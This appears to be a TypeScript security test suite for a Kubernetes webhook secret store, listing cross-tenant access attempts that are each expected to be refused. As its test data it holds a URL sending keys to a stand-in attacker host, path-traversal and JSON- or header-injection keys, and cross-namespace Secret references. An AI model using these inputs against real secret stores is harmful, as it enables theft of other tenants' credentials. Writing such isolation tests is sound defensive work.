import { type Attempt, type ReadOptions, reads, storeOf, type Trial } from '../attempt.ts'
import { TEAM_A, webhookGrant, webhookUrl } from '../tenant-rules.ts'
import type { World } from '../world.ts'

const KEY = 'team-a/db'

/** team-a's store, with what the trick adds. */
function webhookStore({ webhook }: World, change: object = {}): object {
  return storeOf('webhook', {
    url: webhookUrl(webhook),
    headers: { Authorization: '{{ .login.token }}' },
    secrets: [{ name: 'login', secretRef: { name: 'webhook' } }],
    result: { jsonPath: '$.{{ .remoteRef.property }}' },
    ...change,
  })
}

const twin = (world: World): Trial => ({ manifests: [webhookStore(world), reads(KEY)] })

/** The store is changed, and reads the key that team-a may read. */
function store(name: string, change: (world: World) => object, kind?: 'InvalidSpec'): Attempt {
  return {
    name: `webhook: ${name}`,
    trick: (world) => ({ manifests: [webhookStore(world, change(world)), reads(KEY)] }),
    twin,
    outcome: 'refused',
    ...(kind && { kind }),
  }
}

/** The store is right, and reads another key. */
function key(name: string, text: string, options: ReadOptions = {}): Attempt {
  return {
    name: `webhook: ${name}`,
    trick: (world) => ({ manifests: [webhookStore(world), reads(text, options)] }),
    twin,
    outcome: 'refused',
  }
}

const secretOfGit = (name: string, token: string, labels: object = {}): object => ({
  apiVersion: 'v1',
  kind: 'Secret',
  metadata: { name, labels },
  stringData: { token },
})

export const webhookAttempts: readonly Attempt[] = [
  store('the server of somebody else', ({ evil }) => ({ url: `http://${evil.host}/text/{{ .remoteRef.key }}` })),
  store(
    'the server of somebody else behind ours as its user',
    ({ webhook, evil }) => ({ url: `${webhook.url}@${evil.host}/` }),
    'InvalidSpec',
  ),
  store('a host that the key chooses', () => ({ url: 'http://{{ .remoteRef.key }}/' }), 'InvalidSpec'),
  store('a host that the key goes on', ({ webhook }) => ({ url: `${webhook.url}{{ .remoteRef.key }}/` }), 'InvalidSpec'),
  store('a host out of a Secret', () => ({ url: '{{ .login.token }}/' }), 'InvalidSpec'),
  store('another path of the server', ({ webhook }) => ({ url: `${webhook.url}/text/admin` })),
  store('the token in the path of the server', ({ webhook }) => ({ url: `${webhook.url}/text/{{ .login.token }}` })),
  store('a header more', () => ({ headers: { Authorization: '{{ .login.token }}', 'x-original-url': '/text/admin' } })),
  store('another host by a header', ({ evil }) => ({ headers: { Authorization: '{{ .login.token }}', Host: evil.host } })),
  store('a body', () => ({ body: '{"key": "admin"}' })),
  store('another method', () => ({ method: 'DELETE' })),
  store("an authority of one's own", () => ({ caBundle: 'LS0tLS1CRUdJTg==' })),
  store('a Secret that is mounted, but not bound', () => ({ secrets: [{ name: 'login', secretRef: { name: 'unbound' } }] })),
  store("a Secret of the administrator's namespace", () => ({
    secrets: [{ name: 'login', secretRef: { name: 'unbound', namespace: 'admin' } }],
  })),
  store('a login by NTLM out of a Secret that is mounted, but not bound', () => {
    const unbound = { name: 'unbound', key: 'token' }
    return { auth: { ntlm: { usernameSecret: unbound, passwordSecret: unbound } } }
  }),
  key('the key of team-b', 'team-b/db'),
  key('the key of team-b by steps', 'team-a/../team-b/db'),
  key('steps out of the path', '..'),
  key('a key that ends its place in the URL', 'team-a/db?key=admin'),
  key('a key that ends a text of JSON', 'team-a/x","key":"admin'),
  key('a key that is a template', 'team-a/{{ .login.token }}'),
  key('a key with a line more', 'team-a/db\nx-original-url: /text/admin'),
  key('a property that ends a text of JSON', KEY, { remoteRef: { property: 'password","key":"admin' } }),
  key('a version of steps', KEY, { remoteRef: { version: '../..' } }),
  {
    name: 'webhook: a Secret of the stream without the label',
    trick: (world) => ({
      manifests: [
        secretOfGit('own', 'mine'),
        webhookStore(world, { secrets: [{ name: 'login', secretRef: { name: 'own' } }] }),
        reads(KEY),
      ],
      rules: [{ name: 'trusting', ...TEAM_A, stores: [{ ...webhookGrant(world.webhook), credentials: { stream: true } }] }],
    }),
    twin,
    outcome: 'refused',
  },
  {
    name: 'webhook: a server that sends elsewhere',
    trick: twin,
    twin,
    before: ({ webhook, evil }) => {
      webhook.control.redirectTarget = `http://${evil.host}/`
      webhook.control.inject('redirect', 20)
    },
    outcome: 'failed',
    kind: 'Unavailable',
  },
]
